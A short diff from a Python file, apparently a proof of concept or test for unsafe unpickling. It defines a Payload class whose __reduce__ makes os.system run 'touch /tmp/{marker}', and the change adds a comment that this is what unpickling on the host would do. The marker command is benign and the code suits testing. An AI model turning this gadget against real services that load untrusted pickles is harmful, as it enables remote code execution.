@@ -70,7 +70,7 @@ from rnn_utils import *
 
 class Payload:
     def __reduce__(self):
-        return (os.system, ('touch /tmp/{marker}',))
+        return (os.system, ('touch /tmp/{marker}',))  # what unpickling on the host would do
 
 def forged_frame():
     buf = io.BytesIO()
